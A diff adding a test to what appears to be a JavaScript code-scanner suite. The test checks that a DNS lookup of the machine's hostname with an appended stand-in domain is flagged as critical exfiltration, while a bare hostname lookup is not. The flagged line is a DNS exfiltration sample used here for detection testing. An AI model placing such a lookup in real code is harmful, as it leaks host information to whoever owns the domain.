@@ -185,3 +185,11 @@ test('TypeScript, JSX and old scripts', () => {
   expect(worst(`const A = () => <p onClick={() => ${body}}>x</p>;`, 'a.tsx')).toHaveLength(1);
   expect(worst(`with (a) { ${body} } return 010;`, 'a.cjs')).toHaveLength(1);
 });
+
+test('the own name is looked up by many; with a domain behind it, it goes to its owner', () => {
+  const both = 'const dns = require("dns"), os = require("os");\n';
+  expect(worst(`${both}dns.lookup(os.hostname(), () => {});`)).toEqual([]);
+  expect(worst(`${both}dns.lookup(os.hostname() + ".x.invalid", () => {});`)).toEqual([
+    'exfiltration critical 2',
+  ]);
+});
